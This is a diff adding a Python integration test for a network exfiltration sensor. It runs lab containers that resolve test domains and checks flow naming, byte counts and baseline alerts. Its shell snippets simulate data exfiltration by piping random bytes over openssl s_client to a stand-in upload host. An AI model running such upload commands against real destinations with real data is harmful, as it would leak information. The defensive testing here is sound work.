@@ -1,0 +1,165 @@
+"""Destinations are names, on a real kernel with real containers: DNS
+answers the sink's DNS server gave, TLS SNI and HTTP Host name the flows;
+ingress bytes match what the sink sent back; a baseline learned by name
+stays silent when the service moves to another address block, and flags a
+new name on a known address."""
+
+from __future__ import annotations
+
+import subprocess
+import time
+from pathlib import Path
+from typing import Any
+
+from emulation.lab import SECOND_IP
+
+from .harness import SINK_IP, SLUICE, Docker, SensorProc, SinkNet, action, cid_of, run_container
+
+SVC = "api.svc-names.test"
+NEW = "upload.share-files.test"
+
+
+def resolve(name: str) -> str:
+    """busybox sh: the last address nslookup prints for `name`, asked of
+    the sink's DNS server (a real DNS response into the container)."""
+    return f"ip=$(nslookup {name} {SINK_IP} | tail -n +3 | grep -o '198[.]18[.][0-9.]*' | tail -1); echo ip=$ip; "
+
+
+def tls_upload(name: str, nbytes: int) -> str:
+    return (
+        f"head -c {nbytes} /dev/urandom > /tmp/up; "
+        + resolve(name)
+        # stdin held open a moment: s_client stops at EOF, unsent data with it
+        + f"(cat /tmp/up; sleep 1) | openssl s_client -quiet -no_ign_eof -connect $ip:443 -servername {name} "
+        + ">/dev/null 2>&1; "
+    )
+
+
+def _flows(sensor: SensorProc, cid: str) -> list[dict[str, Any]]:
+    return [d for d in sensor.docs() if action(d) == "flow_summary" and cid_of(d) == cid]
+
+
+def test_flows_named_and_ingress_bytes_match(base: Path, docker: Docker, net: SinkNet, sensor: SensorProc) -> None:
+    net.set_names({SVC: [SINK_IP], NEW: [SECOND_IP]})
+    n = 300_000
+    script = (
+        resolve(SVC)
+        + f"printf 'GET /bytes/{n} HTTP/1.0\\r\\n\\r\\n' | nc $ip 80 > /tmp/got; wc -c < /tmp/got; "
+        + tls_upload(NEW, 20_000)
+    )
+    before = len(net.received())
+    cid = run_container(docker, net, script)
+    sensor.wait_for(
+        lambda d: action(d) == "flow_summary" and cid_of(d) == cid and d["destination"]["port"] == 443,
+        what="TLS flow summary",
+    )
+    sensor.settle()
+    flows = _flows(sensor, cid)
+    http = [d for d in flows if d["destination"]["ip"] == SINK_IP and d["destination"]["port"] == 80]
+    tls = [d for d in flows if d["destination"]["ip"] == SECOND_IP and d["destination"]["port"] == 443]
+    dns = [d for d in flows if d["destination"]["port"] == 53]
+    assert http and tls and dns, flows
+    # the HTTP/1.0 request has no Host: its name is the DNS answer the container got
+    assert {d["destination"].get("domain") for d in http} == {SVC}
+    assert all(d["sluice"]["flow"]["name_source"] == "dns" for d in http)
+    assert http[0]["destination"]["registered_domain"] == "svc-names.test"
+    # ingress: what the sink sent back, byte for byte (TCP payload)
+    sent = [r["bytes"] for r in net.received()[before:] if r.get("proto") == "http-reply"]
+    assert len(sent) == 1 and sent[0] > n
+    assert sum(d["sluice"]["payload"]["received_bytes"] for d in http) == sent[0]
+    assert sum(d["destination"]["bytes"] for d in http) > sent[0]  # with IP and TCP headers
+    assert sum(d["destination"]["packets"] for d in http) >= sent[0] // 65536
+    # upload vs download: the request is tiny, the answer large
+    assert all(d["sluice"]["flow"].get("upload_download_ratio", 0) < 0.01 for d in http if d["source"]["bytes"])
+    # TLS: named by the ClientHello's SNI
+    assert {d["tls"]["client"]["server_name"] for d in tls if "tls" in d} == {NEW}
+    assert {d["destination"]["domain"] for d in tls} == {NEW}
+    # DNS answers counted as ingress on the resolver flow
+    assert sum(d["sluice"]["payload"]["received_bytes"] for d in dns) > 0
+    # the connect event is named too (the DNS answer came first)
+    conns = [d for d in sensor.docs() if action(d) == "connection_attempted" and cid_of(d) == cid]
+    assert any(d["destination"].get("domain") == SVC for d in conns), conns
+    st = sensor.status("--json").stdout
+    assert '"ingress": "attached"' in st or '"ingress":"attached"' in st.replace(" ", ""), st
+
+
+def _learn(base: Path, docker: Docker, net: SinkNet, bl: Path, cfg: Path, script: str, seconds: int) -> None:
+    p = subprocess.Popen(
+        [SLUICE, "baseline", "learn", "--duration", str(seconds), "-c", str(cfg), "--baseline", str(bl)],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    deadline = time.monotonic() + 30
+    while subprocess.run([SLUICE, "status", "-c", str(cfg)], capture_output=True).returncode != 0:
+        assert p.poll() is None, p.communicate()
+        assert time.monotonic() < deadline, "learning sensor never ready"
+        time.sleep(0.2)
+    for _ in range(2):
+        run_container(docker, net, script, timeout=90)
+    _out, err = p.communicate(timeout=120)
+    assert p.returncode == 0, err
+
+
+def test_baseline_by_name_moves_silently_and_flags_new_name(base: Path, docker: Docker, net: SinkNet) -> None:
+    """Learned: the workload uploads 1.5 MiB over TLS to api.svc-names.test
+    at 198.18.0.1. Detecting: the name now resolves to 198.18.64.1 (another
+    /24): silent. A new name that resolves to the known 198.18.0.1: flagged,
+    with destination.domain."""
+    net.set_names({SVC: [SINK_IP]})
+    d = base / "names-bl"
+    d.mkdir(exist_ok=True)
+    cfg = d / "sluice.toml"
+    cfg.write_text(
+        f'[sensor]\nwindow_seconds = 1.0\ncontrol_socket = "{d}/ctl.sock"\n'
+        f'[runtime]\ndocker_socket = "{docker.sock}"\n[detection]\nmin_baseline_windows = 1\n'
+    )
+    bl = d / "baseline.msgpack"
+    upload = tls_upload(SVC, 1_500_000)
+    _learn(base, docker, net, bl, cfg, upload, 12)
+    exp = subprocess.run(
+        [SLUICE, "baseline", "export", "--baseline", str(bl)], capture_output=True, text=True, check=True
+    ).stdout
+    assert "svc-names.test|443|tcp" in exp, exp
+
+    s = SensorProc(d, docker.sock, name="names-detect", extra_config="[detection]\nmin_baseline_windows = 1\n")
+    s.start(args=("--baseline", str(bl)))
+    try:
+        # the service moved to another address block
+        net.set_names({SVC: [SECOND_IP]})
+        moved = run_container(docker, net, upload, timeout=90)
+        s.wait_for(
+            lambda x: (
+                action(x) == "flow_summary"
+                and cid_of(x) == moved
+                and x["destination"]["ip"] == SECOND_IP
+                and x["destination"].get("domain") == SVC
+            ),
+            what="named flow to the moved service",
+        )
+        s.settle(3)
+        alerts = [x for x in s.docs() if x["event"]["kind"] == "alert" and cid_of(x) == moved]
+        assert alerts == [], [a["message"] for a in alerts]
+
+        # a new name on the known address
+        net.set_names({NEW: [SINK_IP]})
+        evil = run_container(docker, net, tls_upload(NEW, 1_500_000), timeout=90)
+        try:
+            a = s.wait_for(
+                lambda x: x["event"]["kind"] == "alert" and cid_of(x) == evil and x["rule"]["id"] == "SL-EXF-004",
+                timeout=20,
+                what="SL-EXF-004 for a new name on a known address",
+            )
+        except AssertionError as e:
+            seen = [
+                (action(x), x.get("message"), x.get("destination"), x.get("sluice", {}).get("payload"))
+                for x in s.docs()
+                if cid_of(x) == evil and action(x) != "exec"
+            ]
+            raise AssertionError(f"{e}; the container's documents: {seen}") from None
+        assert a["destination"]["domain"] == NEW and a["destination"]["ip"] == SINK_IP
+        assert a["destination"]["registered_domain"] == "share-files.test"
+        assert a["message"].index(NEW) < a["message"].index(SINK_IP)
+        assert a["tls"]["client"]["server_name"] == NEW
+    finally:
+        s.stop()
